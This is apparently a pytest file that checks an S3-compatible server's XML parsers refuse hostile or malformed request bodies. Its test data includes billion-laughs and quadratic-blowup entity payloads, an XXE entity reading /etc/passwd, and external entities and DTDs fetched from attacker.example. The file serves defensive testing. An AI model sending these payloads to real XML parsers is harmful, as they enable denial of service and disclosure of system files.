"""Hostile and broken request bodies, against every parser."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from ferry.protocol.errors import S3Error, S3ErrorCode
from ferry.protocol.xml import (
    BUCKET_TAG_LIMIT,
    parse_access_control_policy,
    parse_complete_multipart_upload,
    parse_create_bucket_configuration,
    parse_delete,
    parse_replication_configuration,
    parse_tagging,
    parse_versioning_configuration,
)

Parser = Callable[[bytes], object]

# (root element, parser, the code a bad document gets)
PARSERS: list[tuple[str, Parser, S3ErrorCode]] = [
    ("Delete", parse_delete, S3ErrorCode.MalformedXML),
    ("CompleteMultipartUpload", parse_complete_multipart_upload, S3ErrorCode.MalformedXML),
    ("Tagging", lambda body: parse_tagging(body, limit=BUCKET_TAG_LIMIT), S3ErrorCode.MalformedXML),
    ("VersioningConfiguration", parse_versioning_configuration, S3ErrorCode.MalformedXML),
    ("CreateBucketConfiguration", parse_create_bucket_configuration, S3ErrorCode.MalformedXML),
    ("AccessControlPolicy", parse_access_control_policy, S3ErrorCode.MalformedACLError),
    ("ReplicationConfiguration", parse_replication_configuration, S3ErrorCode.MalformedXML),
]


def _billion_laughs(root: str) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
    ]
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} [{"".join(entities)}]><{root}>&lol9;</{root}>'
    ).encode()


HOSTILE: dict[str, Callable[[str], bytes]] = {
    "billion laughs": _billion_laughs,
    "quadratic blowup": lambda root: (
        f'<!DOCTYPE {root} [<!ENTITY a "{"x" * 10000}">]><{root}>{"&a;" * 1000}</{root}>'
    ).encode(),
    "external entity (XXE)": lambda root: (
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f"<{root}>&xxe;</{root}>"
    ).encode(),
    "external parameter entity": lambda root: (
        f'<!DOCTYPE {root} [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>'
        f"<{root}/>"
    ).encode(),
    "external DTD": lambda root: (
        f'<!DOCTYPE {root} SYSTEM "http://attacker.example/evil.dtd"><{root}/>'
    ).encode(),
    "harmless DTD": lambda root: f"<!DOCTYPE {root}><{root}/>".encode(),
    "not XML": lambda root: b"Key=value&Quiet=true",
    "JSON": lambda root: b'{"Objects": [{"Key": "k"}]}',
    "truncated": lambda root: f"<{root}><Object><Key>k</Key>".encode(),
    "mismatched tags": lambda root: f"<{root}></Other>".encode(),
    "two roots": lambda root: f"<{root}/><{root}/>".encode(),
    "wrong root": lambda root: b"<Root><Object><Key>k</Key></Object></Root>",
    "wrong root, S3 namespace": lambda root: (
        b'<Error xmlns="http://s3.amazonaws.com/doc/2006-03-01/"/>'
    ),
    "invalid UTF-8": lambda root: f"<{root}>".encode() + b"\xff\xfe" + f"</{root}>".encode(),
    "unknown encoding": lambda root: f'<?xml version="1.0" encoding="klingon"?><{root}/>'.encode(),
    "NUL byte": lambda root: f"<{root}>\x00</{root}>".encode(),
    "XML 1.1 character reference": lambda root: f"<{root}>&#x1;</{root}>".encode(),
    "undefined entity": lambda root: f"<{root}>&nbsp;</{root}>".encode(),
    "unbound prefix": lambda root: f"<x:{root}/>".encode(),
    "processing instruction only": lambda root: b'<?xml version="1.0"?>',
    "empty": lambda root: b"",
}


CASES = [
    pytest.param(root, parse, code, attack, id=f"{root}-{attack}")
    for root, parse, code in PARSERS
    for attack in HOSTILE
    # An empty CreateBucket body is legitimate: the default configuration.
    if not (root == "CreateBucketConfiguration" and attack == "empty")
]


@pytest.mark.parametrize(("root", "parse", "code", "attack"), CASES)
def test_hostile_or_broken_body_is_refused_as_malformed(
    root: str, parse: Parser, code: S3ErrorCode, attack: str
) -> None:
    with pytest.raises(S3Error) as caught:
        parse(HOSTILE[attack](root))
    assert caught.value.code is code
    assert caught.value.status == 400


def test_deeply_nested_document_is_refused_without_recursion_errors() -> None:
    body = b"<Delete>" + b"<a>" * 50_000 + b"</a>" * 50_000 + b"</Delete>"
    with pytest.raises(S3Error) as caught:
        parse_delete(body)
    assert caught.value.code is S3ErrorCode.MalformedXML


def test_document_in_another_declared_encoding_is_read() -> None:
    body = '<?xml version="1.0" encoding="UTF-16"?><Delete><Object><Key>é</Key></Object></Delete>'
    assert parse_delete(body.encode("utf-16")).objects[0].key == "é"
